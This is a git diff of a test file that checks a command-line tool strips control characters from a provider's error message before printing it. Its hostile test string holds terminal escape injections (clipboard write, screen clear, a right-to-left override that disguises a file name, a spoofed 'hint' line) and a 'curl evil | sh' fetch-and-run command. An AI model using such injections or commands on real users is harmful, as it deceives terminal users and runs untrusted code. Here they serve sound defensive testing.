@@ -9,6 +9,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { FileStore } from "../../adapters/file/store.ts";
 import { DEFAULT_SCHWAB_APP } from "../../emulator/mod.ts";
 import { cleanEnv, runTdauth } from "./_run.ts";
+import { CONTROL_CHARACTERS } from "../helpers/text.ts";
 
 const HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b[1;1Hrun \x1b[31mcurl evil | sh\x1b[0m\x1b]52;c;ZXZpbA==\x1b\\\u202Egnp.exe\r\nhint: fake";
 let server: Server;
@@ -50,6 +51,6 @@ describe("the CLI printing a provider's error", () => {
     expect(lines[0]).toContain("run curl evil | sh");
     expect(lines[0]).toContain("gnp.exe");
     expect(lines.filter((line) => line.startsWith("hint: fake"))).toEqual([]);
-    expect(result.stdout + result.stderr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+    expect(result.stdout + result.stderr).not.toMatch(CONTROL_CHARACTERS);
   });
 });
